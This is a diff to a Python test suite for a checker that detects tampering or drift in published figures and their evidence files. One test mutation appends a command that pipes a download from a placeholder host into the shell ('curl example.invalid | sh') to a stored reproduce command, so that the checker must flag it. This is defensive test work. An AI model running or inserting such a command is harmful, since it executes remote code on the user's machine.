@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 from collections.abc import Callable
 from pathlib import Path
@@ -90,9 +91,42 @@ def _contribution(told: dict[str, Any]) -> None:
     told["contributions"] = told["contributions"][1:]
 
 
+def _release(told: dict[str, Any]) -> None:
+    told["software"] = "older"
+    _sentence(told)
+
+
+def _release_without_caveats(told: dict[str, Any]) -> None:
+    told["software"] = "older"
+    _caveat(told)
+
+
+def _command(told: dict[str, Any]) -> None:
+    told["command"] += "; curl example.invalid | sh"
+
+
+def _other_command(told: dict[str, Any]) -> None:
+    told["command"] = told["command"].replace(told["id"], "0123456789abcdef")
+
+
+def _kind(told: dict[str, Any]) -> None:
+    del told["presentation"]
+    told["rows"][-1]["kind"] = "rest"
+
+
+def _pieces(told: dict[str, Any]) -> None:
+    told["evidence"]["pieces"] += 1
+
+
 @pytest.mark.parametrize(
     ("change", "says"),
     [
+        (_release, "sentence: “Homes share is 52.00%.”"),
+        (_release_without_caveats, "caveats: lacks “"),
+        (_command, "Reproduce: other than"),
+        (_other_command, "Reproduce: other than"),
+        (_kind, "presentation: other than"),
+        (_pieces, "evidence: "),
         (_sentence, "sentence: “Homes share is 52.00%.”, again “Homes share is 25.00%.”"),
         (_method, "method: "),
         (_caveat, "caveats: lacks “"),
@@ -123,8 +157,6 @@ def test_a_cut_evidence_file_is_noticed(library: Library, shelf: FigureShelf) ->
 
 
 def test_other_evidence_with_a_hash_that_fits_is_noticed(library: Library, shelf: FigureShelf) -> None:
-    import hashlib
-
     figure = published(library, shelf, "homes")
     path = shelf.folder / f"{figure.id}.parquet"
     gpd.read_parquet(path).translate(0.01).to_frame("geometry").to_parquet(path)
@@ -133,6 +165,17 @@ def test_other_evidence_with_a_hash_that_fits_is_noticed(library: Library, shelf
     )
     (row,) = seen(library, shelf).rows
     assert row.state == "drift" and any("of other shapes" in one.en for one in row.findings), row.findings
+
+
+def test_what_is_said_of_the_evidence_is_heard_too(library: Library, shelf: FigureShelf) -> None:
+    figure = published(library, shelf, "homes")
+    path = shelf.folder / f"{figure.id}.parquet"
+    pieces = gpd.read_parquet(path)
+    pieces.assign(**{next(iter(pieces.columns.drop("geometry"))): "another"}).to_parquet(path)
+    sha256 = hashlib.sha256(path.read_bytes()).hexdigest()
+    forge(shelf, figure, lambda told: told["evidence"].update(sha256=sha256))
+    (row,) = seen(library, shelf).rows
+    assert row.state == "drift" and any("of the same shapes" in one.en for one in row.findings), row.findings
 
 
 def test_data_that_changed_are_no_drift_and_say_what_comes_out_today(library: Library, shelf: FigureShelf) -> None:
